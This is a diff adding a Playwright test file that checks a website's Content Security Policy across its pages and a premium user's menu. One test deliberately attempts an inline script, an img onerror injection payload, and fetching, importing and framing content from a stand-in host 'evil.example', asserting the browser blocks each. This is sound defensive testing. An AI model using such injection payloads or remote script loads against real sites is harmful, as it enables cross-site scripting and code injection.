@@ -1,0 +1,133 @@
+import type { BrowserContext, Page } from '@playwright/test';
+
+import { MENU } from '#rules/menu.ts';
+import { expect, test } from './fixtures.ts';
+import { ANA } from './support/account.ts';
+import { guideIsOpen } from './support/guide-is-open.ts';
+import { openSession } from './support/open-session.ts';
+import { ALL_WEEK_PAGES, GUIDE_PAGES, MAIN_PAGES } from './support/site-pages.ts';
+
+/** A test's own word in its browser, for a look into what violated the policy. */
+declare global {
+  interface Window {
+    policyViolations: string[];
+  }
+}
+
+async function collectViolations(context: BrowserContext): Promise<void> {
+  await context.addInitScript(() => {
+    window.policyViolations = [];
+    addEventListener(
+      'securitypolicyviolation',
+      ({ effectiveDirective, blockedURI, disposition }) => {
+        window.policyViolations.push(`${effectiveDirective} ${blockedURI} ${disposition}`);
+      },
+    );
+  });
+}
+
+const violations = (page: Page) => page.evaluate(() => window.policyViolations);
+
+test.beforeEach(async ({ context }) => {
+  await collectViolations(context);
+});
+
+test('E03 A visitor opens every route under its policy, and nothing violates it', async ({
+  page,
+  isMobile,
+}) => {
+  test.slow();
+  expect(isMobile).toBe(false);
+  for (const path of [...MAIN_PAGES, ...GUIDE_PAGES, ...ALL_WEEK_PAGES.slice(0, 3)]) {
+    const response = await page.goto(path);
+    expect(response?.headers()['content-security-policy'], path).toContain("default-src 'none'");
+    await expect(page.locator('astro-island[ssr]')).toHaveCount(0);
+    await page.evaluate(() => document.fonts.ready);
+    expect(await violations(page), path).toEqual([]);
+  }
+});
+
+test('E03 A premium reader clicks through her menu, opens what can be opened, and nothing violates it', async ({
+  context,
+  page,
+}) => {
+  test.slow();
+  await openSession(context, ANA);
+  await page.goto('/dashboard');
+  for (const { href } of MENU) {
+    await page.getByRole('navigation').locator(`a[href="${href}"]`).first().click();
+    await page.waitForURL(`**${href}`);
+    await expect(page.locator('astro-island[ssr]')).toHaveCount(0);
+    if (GUIDE_PAGES.includes(href)) await guideIsOpen(page);
+    for (const tab of await page.getByRole('tab').all())
+      if (await tab.isVisible()) await tab.click();
+    for (const fold of await page.locator('main summary').all())
+      if (await fold.isVisible()) await fold.click();
+    expect(await violations(page), href).toEqual([]);
+  }
+  for (const path of ['/account', '/subscriptions']) {
+    await page.goto(path);
+    await expect(page.locator('astro-island[ssr]')).toHaveCount(0);
+    await expect(page.locator('[aria-busy=true]').filter({ visible: true })).toHaveCount(0);
+    expect(await violations(page), path).toEqual([]);
+  }
+});
+
+test('E03 What the policy forbids is refused, and is seen by this search', async ({
+  page,
+  expectConsole,
+}) => {
+  expectConsole(/Content Security Policy|Trusted|ERR_BLOCKED_BY_CSP|evil\.example/i);
+  await page.goto('/terms');
+  const outcomes = await page.evaluate(async () => {
+    const attempt = (run: () => unknown) => {
+      try {
+        return String(run());
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const script = document.createElement('script');
+    const inline = attempt(() => {
+      script.textContent = 'window.pwned = true';
+      document.head.append(script);
+    });
+    const markup = attempt(
+      () => (document.body.innerHTML = '<img src=x onerror="window.pwned = true">'),
+    );
+    const call = await fetch('https://evil.example/').then(
+      () => 'answered',
+      () => 'refused',
+    );
+    const foreign = 'https://evil.example/x.js';
+    const module = await import(foreign).then(
+      () => 'run',
+      () => 'refused',
+    );
+    document.head.append(
+      Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }),
+    );
+    new Image().src = 'https://evil.example/x.png';
+    const frame = document.createElement('iframe');
+    frame.src = 'https://evil.example/';
+    document.body.append(frame);
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    return { inline, markup, call, module, pwned: 'pwned' in window };
+  });
+  expect(outcomes).toEqual({
+    inline: 'TypeError',
+    markup: 'TypeError',
+    call: 'refused',
+    module: 'refused',
+    pwned: false,
+  });
+  const found = (await violations(page)).map((violation) => violation.split(' ')[0]);
+  expect([...new Set(found)].toSorted()).toEqual([
+    'connect-src',
+    'frame-src',
+    'img-src',
+    'require-trusted-types-for',
+    'script-src-elem',
+    'style-src-elem',
+  ]);
+});
